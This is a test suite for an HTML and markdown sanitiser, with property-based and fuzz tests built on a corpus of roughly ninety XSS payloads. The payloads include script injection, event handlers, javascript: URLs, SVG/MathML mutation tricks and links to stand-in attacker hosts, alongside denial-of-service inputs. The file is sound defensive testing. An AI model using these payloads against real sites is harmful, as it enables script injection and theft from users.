// What strangers send (T35, T46–T48). The assertion is not a list of forbidden words, which text may well contain, but a
// grammar: every `<` in the output opens a tag that our lists allow, with only the attributes that they allow.
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { renderMarkdown } from '../../../src/domain/text/markdown.ts';
import { plainToHtml, sanitiseOwn, sanitiseRemote } from '../../../src/domain/text/sanitise.ts';

const origin = 'https://wethi.test';
const own = (html: string) => sanitiseOwn(html, { origin });

const TEXT = '[^"<>]*';
const MARKS = '(?:mention|hashtag|h-card|u-url)(?: (?:mention|hashtag|h-card|u-url))*';
const PLAIN =
  'p|br|hr|h[2-6]|a|span|blockquote|pre|code|em|strong|b|i|u|del|ul|ol|li|figure|figcaption|table|caption|thead|tbody|tfoot|tr|th|td|ruby|rp|rt';
const OWN_TAG = new RegExp(
  [
    `</?(?:${PLAIN}|div)>`,
    `<(?:br|hr) />`,
    `<a href="https?://${TEXT}"(?: class="${MARKS}")?(?: rel="(?:tag|noopener ugc|tag noopener ugc)")?>`,
    `<span class="${MARKS}">`,
    `<img src="https://${TEXT}" alt="${TEXT}" loading="lazy" />`,
    '<ol start="\\d+">',
    `<div class="scroll" tabindex="0" role="region"(?: aria-label="${TEXT}")?>`,
    '<th(?: (?:class="r"|scope="[a-z]+"|(?:col|row)span="\\d+"))+>',
    '<td(?: (?:class="(?:r|free)"|(?:col|row)span="\\d+"))+>',
  ].join('|'),
  'g',
);
const REMOTE_TAG = new RegExp(
  [
    '</?(?:p|span|blockquote|pre|code|em|strong|b|i|u|del|ul|ol|li|h[3-6])>|<br />|</a>',
    `<a href="https?://${TEXT}"(?: class="${MARKS}")? rel="nofollow noopener noreferrer ugc">`,
    `<span class="${MARKS}">`,
    '<ol start="\\d+">',
  ].join('|'),
  'g',
);

function inert(html: string, tag: RegExp): void {
  const text = html.replaceAll(tag, '');
  expect(text).not.toMatch(/[<>]/);
  expect(text).not.toMatch(/&(?!(?:amp|lt|gt|quot);)/);
}

const ATTACKS = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=//evil.test/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script/x>
<script>/*</script><svg/onload=alert(1)>*/
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)" alt="รูป">
<img/src=x/onerror=alert(1)>
<img src=javascript:alert(1)>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img srcset="javascript:alert(1) 1x" src="https://a.test/a.png">
<img alt='"><script>alert(1)</script>' src="https://a.test/a.png">
<image href=x onerror=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="java&#x0A;script:alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="file:///etc/passwd">x</a>
<a href="//evil.test/">x</a>
<a href="\\evil.test\x">x</a>
<a href="/\evil.test">x</a>
<a href="https://bank.test@evil.test/">x</a>
<a href="https://a.test/" onclick="alert(1)" style="position:fixed;inset:0" target="_blank" ping="https://spy.test/">x</a>
<a href='https://a.test/"onmouseover="alert(1)'>x</a>
<a href="https://a.test/" class="mention button evil" id="reply">x</a>
<a name="main" id="main">x</a>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x"></svg>
<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<style>@import 'https://evil.test/x.css';</style>
<style><img src="</style><img src=x onerror=alert(1)>">
<p style="background:url(javascript:alert(1))">x</p>
<link rel=stylesheet href=https://evil.test/x.css>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<base href="https://evil.test/">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe><img src=x onerror=alert(1)></iframe>
<object data="javascript:alert(1)"></object>
<embed src="https://evil.test/x.swf">
<form action="https://evil.test/"><input name=password><button formaction="javascript:alert(1)">x</button></form>
<input autofocus onfocus=alert(1)>
<select onfocus=alert(1) autofocus><option>x</select>
<textarea><img src=x onerror=alert(1)></textarea>
<textarea></textarea/><img src=x onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>
<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>
<plaintext><img src=x onerror=alert(1)>
<template><script>alert(1)</script></template>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<video><source onerror=alert(1)></video>
<video src="https://a.test/a.mp4" poster="javascript:alert(1)" onloadstart="alert(1)"></video>
<audio src=x onerror=alert(1)></audio>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<body onload=alert(1)>
<html manifest="https://evil.test/x">
<table background="javascript:alert(1)"><tr><td onclick=alert(1)>x</td></tr></table>
<div class="scroll" onscroll=alert(1) style="height:1px" tabindex="9">x</div>
<button popovertarget="menu" onclick=alert(1)>x</button>
<isindex type=image src=1 onerror=alert(1)>
<p/onclick=alert(1)>x
<p onclick=alert(1) //x>y
<p "onclick=alert(1)">x</p>
<p <onclick=alert(1)>x</p>
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<img src=x onerror=alert(1)>]]>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
<?xml version="1.0"?><?php alert(1) ?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
<b><i></b><script>alert(1)</i></script>
<p><table><p><script>alert(1)</script>
<a href="https://a.test/"><a href="javascript:alert(1)">x
</p></p></br></div><li>
<ol start="1 onclick=alert(1)" reversed><li value="javascript:alert(1)">x</ol>
<blockquote cite="javascript:alert(1)">x</blockquote>
<span class="h-card" data-x="1" contenteditable>x</span>
<custom-element is="x-y" onclick=alert(1)>x</custom-element>
<
<a href="
<img alt="
`
  .trim()
  .split('\n');

test('the corpus of attacks is large and has no doubles', () => {
  expect(new Set(ATTACKS).size).toBe(ATTACKS.length);
  expect(ATTACKS.length).toBeGreaterThanOrEqual(90);
});

describe.each(ATTACKS)('%s', (attack) => {
  test('is inert in all four doors, twice over, and inside other text', () => {
    for (const html of [attack, `ก่อน ${attack} หลัง`, `<p><b>${attack}</b></p>`, `<blockquote><a href="${attack}">`]) {
      inert(sanitiseRemote(html), REMOTE_TAG);
      inert(own(html), OWN_TAG);
      inert(plainToHtml(html), REMOTE_TAG);
      inert(renderMarkdown(html, { origin }), OWN_TAG);
      inert(renderMarkdown(`[x](${html}) ![x](${html}) [y]: ${html}`, { origin }), OWN_TAG);
      expect(sanitiseRemote(sanitiseRemote(html))).toBe(sanitiseRemote(html));
      expect(own(own(html))).toBe(own(html));
    }
  });
});

/** Random soup of the pieces that break sanitisers, and of any characters at all. */
const soup = fc
  .array(
    fc.oneof(
      fc.constantFrom(...ATTACKS),
      fc.constantFrom(
        ...'<p> </p> <b> </b> <a <a> </a> <div> </div> <table> <tr> <td> </td> </table> <h1> </h1> <ul> <li> </ul> <svg> </svg> <pre> <span> </span> <img <br> </br> <! --> < > " \' = / & &lt; &#60; &amp; ; style= onx= href= javascript: \0 \u202e'.split(
          ' ',
        ),
      ),
      fc.string({ unit: 'binary', maxLength: 8 }),
    ),
    { maxLength: 24 },
  )
  .map((pieces) => pieces.join(''));

test('no text whatever gets through as anything but allowed tags', () => {
  fc.assert(
    fc.property(soup, (html) => {
      inert(sanitiseRemote(html), REMOTE_TAG);
      inert(own(html), OWN_TAG);
      inert(plainToHtml(html), REMOTE_TAG);
      inert(renderMarkdown(html, { origin }), OWN_TAG);
    }),
    { numRuns: 1500 },
  );
});

test('sanitising twice is sanitising once', () => {
  fc.assert(
    fc.property(soup, (html) => {
      expect(sanitiseRemote(sanitiseRemote(html))).toBe(sanitiseRemote(html));
      expect(own(own(html))).toBe(own(html));
      expect(sanitiseRemote(plainToHtml(html))).toBe(plainToHtml(html));
    }),
    { numRuns: 1500 },
  );
});

const n = 1_000_000;
test.each([
  ['<a and spaces', `<a ${' '.repeat(n)}`],
  ['open angles', '<'.repeat(n)],
  ['half tags', '<a '.repeat(n / 3)],
  ['attributes', `<a ${'x="1" '.repeat(n / 6)}>`],
  ['one attribute', `<a href="${'a'.repeat(n)}">`],
  ['deep tags', '<b>'.repeat(n / 3)],
  ['deep tags with foreign ends', '<b>'.repeat(n / 8) + '</i>'.repeat(n / 8)],
  ['deep lists', '<ul><li>'.repeat(n / 8)],
  ['paragraphs', '<p>'.repeat(n / 3)],
  ['comments', '<!--'.repeat(n / 4)],
  ['ampersands', '&'.repeat(n)],
  ['entities', '&lt;'.repeat(n / 4)],
  ['blank lines', '\n '.repeat(n / 2)],
  ['marks', '\u0e49'.repeat(n)],
  ['mentions', '<a href="https://a.test/" class="mention">@a</a> '.repeat(n / 50)],
])('a megabyte of %s comes to an end, and inert', (_, html) => {
  // What grew with the square of the length would not end within the test's own limit; how fast it is, bench/ measures.
  for (const safe of [sanitiseRemote(html), own(html), plainToHtml(html)]) expect(safe).not.toMatch(/<script/i);
});

test('nesting is bounded, and the words at the bottom are kept', () => {
  const html = sanitiseRemote(`${'<blockquote>'.repeat(5000)}ก้นบึ้ง`);
  expect(html.match(/<blockquote>/g)?.length).toBe(64);
  expect(html).toContain('ก้นบึ้ง');
});

test('a text with more tags than any text has keeps its words and loses its tags', () => {
  expect(sanitiseRemote(`<p>คำ${'<b>'.repeat(40_000)} &amp; <i>คำ`)).toBe('<p>คำ &amp;amp; คำ</p>');
});
